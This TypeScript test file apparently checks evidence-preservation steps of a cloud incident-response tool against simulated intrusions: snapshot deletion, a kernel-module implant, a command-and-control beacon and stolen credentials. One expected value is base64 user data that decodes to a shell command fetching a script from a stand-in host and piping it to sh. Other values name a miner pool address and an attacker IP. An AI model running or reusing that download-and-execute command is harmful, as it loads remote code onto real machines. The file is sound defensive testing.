import type { Range } from "../../../src/range/range.ts";
import { memorySettings } from "../../steps/memory.ts";
import { bucketVault, CHANNEL_KEY, prepareCapture } from "./memory-in-bucket.ts";
import type { Need } from "./need.ts";

const SEAL = "contain.security-groups";
const SNAPSHOTS = "preserve.volume-snapshots";

/** Whoever stores a disk hashes all of it, and a test has little time. */
function withSmallDisks(range: Range): void {
  for (const { region } of range.world.places()) for (const volume of region.volumes.values()) volume.sizeGiB = 1;
}

/** Preservation: what is not there any more without it. */
export const preservationNeeds: readonly Need[] = [
  {
    step: "preserve.volume-snapshots",
    scenario: "ssh-intruder",
    variants: [],
    playbook: [[SEAL, SNAPSHOTS]],
    sees: { of: "snapshots", account: "target" },
    with: 1,
    without: 0,
    why: "The Auto Scaling group ends the instance, and its disk goes with it",
  },
  {
    step: "preserve.machine-image",
    scenario: "ssh-intruder",
    variants: [],
    playbook: [[SNAPSHOTS], ["preserve.machine-image"], [SEAL]],
    sees: { of: "images" },
    with: 1,
    without: 0,
    why: "The same, and somebody wants to start it again as it was",
  },
  {
    step: "preserve.snapshot-lock",
    scenario: "evidence-saboteur",
    variants: [],
    playbook: [[SEAL, SNAPSHOTS], ["preserve.snapshot-lock"]],
    sees: { of: "snapshots", account: "target" },
    with: 1,
    without: 0,
    why: "The intruder deletes the account's snapshots with a stolen key",
  },
  {
    step: "preserve.snapshot-copy",
    scenario: "evidence-saboteur",
    variants: ["account-administrator"],
    playbook: [[SEAL, SNAPSHOTS], ["preserve.snapshot-lock"], ["preserve.snapshot-copy"]],
    sees: { of: "snapshots", account: "evidence" },
    with: 1,
    without: 0,
    why: "He is an administrator of the account, and takes the locks off first",
  },
  {
    step: "preserve.disk-image",
    scenario: "evidence-saboteur",
    variants: ["account-administrator"],
    playbook: [[SEAL, SNAPSHOTS], ["preserve.disk-image"]],
    prepare: withSmallDisks,
    sees: { of: "evidence", kind: "disk-image", says: "" }, // It is packed: that it is there is what can be seen.
    with: true,
    without: false,
    why: "The same, and no account that he does not rule takes copies: the disk lies in the vault before its snapshot is gone",
  },
  {
    step: "preserve.instance-metadata",
    scenario: "evidence-saboteur",
    variants: [],
    playbook: [[SEAL, "preserve.instance-metadata"]],
    sees: {
      of: "evidence",
      kind: "instance-metadata",
      says: "IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy4yNC9rLnNoIHwgc2gK",
    },
    with: true,
    without: false,
    why: "Where the implant came from stands in the user data, and goes with the instance",
  },
  {
    step: "preserve.console-output",
    scenario: "evidence-saboteur",
    variants: [],
    playbook: [[SEAL, "preserve.console-output"]],
    sees: { of: "evidence", kind: "console-output", says: "hidepid: module verification failed" },
    with: true,
    without: false,
    why: "The kernel said which module was loaded; the implant floods the console until AWS keeps nothing of it",
  },
  {
    step: "preserve.console-screenshot",
    scenario: "evidence-saboteur",
    variants: [],
    playbook: [[SEAL, "preserve.console-screenshot"]],
    sees: { of: "evidence", kind: "console-screenshot", says: "hidepid: module verification failed" },
    with: true,
    without: false,
    why: "The same, as it stood on the screen",
  },
  {
    step: "preserve.memory-capture",
    scenario: "c2-beacon",
    variants: ["dead-man-switch"],
    playbook: [["preserve.memory-capture"], [SEAL]],
    prepare: prepareCapture,
    settings: () => memorySettings,
    vault: bucketVault,
    sees: { of: "evidence", kind: "memory", says: CHANNEL_KEY },
    with: true,
    without: false,
    why: "The key of the implant's channel is in its memory only, and it shuts the system down when it is cut off",
  },
  {
    step: "preserve.live-response",
    scenario: "c2-beacon",
    variants: ["ssm-agent"],
    playbook: "collect-and-isolate",
    sees: { of: "evidence", kind: "live-response", says: "stratum+tcp://198.51.100.77:3333" },
    with: true,
    without: false,
    why: "A miner that calls itself a kernel thread shows in the list of processes and nowhere else",
  },
  {
    step: "preserve.collection-profile",
    scenario: "c2-beacon",
    variants: ["ssm-agent"],
    playbook: "collect-and-isolate",
    sees: { of: "evidence", kind: "live-response", says: "stratum+tcp://198.51.100.77:3333" },
    with: true,
    without: false,
    why: "The instance's own profile does not let the agent work: nobody could ask the system anything",
  },
  {
    step: "preserve.cloudtrail-activity",
    scenario: "stolen-credentials",
    variants: [],
    playbook: "stolen-credentials",
    sees: { of: "evidence", kind: "cloudtrail-activity", says: '"sourceIPAddress":"198.51.100.23"' },
    with: true,
    without: false,
    why: "What the thief asked of AWS, from where, and what he was refused, stands in CloudTrail and nowhere on the instance",
  },
  {
    step: "preserve.case-tags",
    scenario: "manual-start",
    variants: ["on-call-operator"],
    playbook: [[SEAL, "preserve.case-tags"]],
    sees: { of: "memory" },
    with: "kept",
    without: "lost",
    why: "A colleague on call sees a silent server, knows of no case, and reboots its memory away",
  },
];
